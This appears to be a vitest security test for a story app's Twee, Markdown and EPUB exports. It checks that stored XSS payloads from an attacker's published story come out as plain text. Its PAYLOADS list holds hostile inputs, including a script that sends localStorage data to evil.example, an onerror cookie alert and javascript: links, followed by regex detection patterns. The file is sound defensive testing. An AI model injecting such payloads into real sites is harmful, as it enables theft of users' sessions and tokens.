// Stored XSS through exports: an attacker publishes a story whose title, text and choices carry
// markup; a reader downloads it as Twee (which Twine runs as HTML with macros) or Markdown (which
// viewers render with raw HTML and links). What reaches the file is visible text, never markup,
// as the EPUB export already does.
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildEpub } from '@/features/reader/export/build-epub';
import { buildMarkdown } from '@/features/reader/export/build-markdown';
import { buildTwee } from '@/features/reader/export/build-twee';
import type { ExportSegment, ExportStory } from '@/features/reader/export/order-story-passages';
import { signUpTestUser, visitorClient } from '../integration/support/test-users.ts';
import { publishAsService } from '../integration/support/publish-as-service.ts';

const PAYLOADS = [
  '<script>fetch("https://evil.example/?"+localStorage.getItem("sb"))</script>',
  '<img src=x onerror="alert(document.cookie)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<svg/onload=alert(1)>',
  '(goto-url: "javascript:alert(1)")',
  '[click me](javascript:alert(1))',
  '![pixel](https://evil.example/track.png)',
];
const HTML = [/<script/i, /<img/i, /<iframe/i, /<svg/i];
/** Twine's Harlowe runs macros; Markdown viewers follow links and load images. */
const RUNNABLE = {
  Twee: [...HTML, /\(goto-url:/i],
  Markdown: [...HTML, /(?<!\\)\](?=\(javascript:)/i, /!\[pixel\]\(/],
};

describe('Twee and Markdown exports of a hostile public story', () => {
  let story: ExportStory;
  let segments: ExportSegment[];

  beforeAll(async () => {
    const attacker = await signUpTestUser('export-attacker');
    const id = crypto.randomUUID();
    const opening = crypto.randomUUID();
    const created = await attacker.client.from('stories').insert({
      id,
      user_id: attacker.user.id,
      title: `Fun ${PAYLOADS[0]}`,
      description: PAYLOADS[1],
    });
    expect(created.error).toBeNull();
    const written = await attacker.client.from('story_segments').insert([
      {
        id: opening,
        story_id: id,
        parent_segment_id: null,
        triggering_choice_text: null,
        segment_text: PAYLOADS.join('\n'),
        choices: [PAYLOADS[2]!],
        is_end: false,
        sequence_number: 1,
      },
      {
        id: crypto.randomUUID(),
        story_id: id,
        parent_segment_id: opening,
        triggering_choice_text: PAYLOADS[2],
        segment_text: PAYLOADS.slice(3).join(' '),
        choices: [],
        is_end: true,
        sequence_number: 2,
      },
    ]);
    expect(written.error).toBeNull();
    await publishAsService(id);
    // What any reader's device gets: the public story as a visitor reads it.
    const visitor = visitorClient();
    story = (
      await visitor
        .from('public_stories')
        .select('id, title, description, genre, target_age, created_at')
        .eq('id', id)
        .single()
    ).data as ExportStory;
    segments = (await visitor.from('story_segments').select('*').eq('story_id', id))
      .data as ExportSegment[];
    expect(segments).toHaveLength(2);
  });

  it.each([
    ['Twee', () => buildTwee(story, segments)],
    ['Markdown', () => buildMarkdown(story, segments)],
  ] as const)('%s carries no runnable markup, macros, links or images', (format, build) => {
    const file = build();
    for (const pattern of RUNNABLE[format]) expect(file).not.toMatch(pattern);
  });

  it.each([
    ['Twee', () => buildTwee(story, segments)],
    ['Markdown', () => buildMarkdown(story, segments)],
  ])('%s still reads as the story: the words are all there', (_, build) => {
    const file = build();
    expect(file).toContain('alert(document.cookie)');
    expect(file).toContain('Fun ');
  });

  it('Twee keeps its own structure: one passage per part and the choice as a link', () => {
    const twee = buildTwee(story, segments);
    expect(twee.match(/^:: Part \d/gm)).toHaveLength(2);
    expect(twee).toMatch(/\[\[.*iframe.*->Part 2\]\]/);
  });

  it('EPUB stays escaped too', () => {
    const files = unzipSync(buildEpub(story, segments));
    const pages = Object.entries(files).filter(([name]) => name.endsWith('.xhtml'));
    expect(pages.length).toBeGreaterThan(1);
    for (const [, bytes] of pages) {
      for (const pattern of HTML) expect(strFromU8(bytes)).not.toMatch(pattern);
    }
  });
});
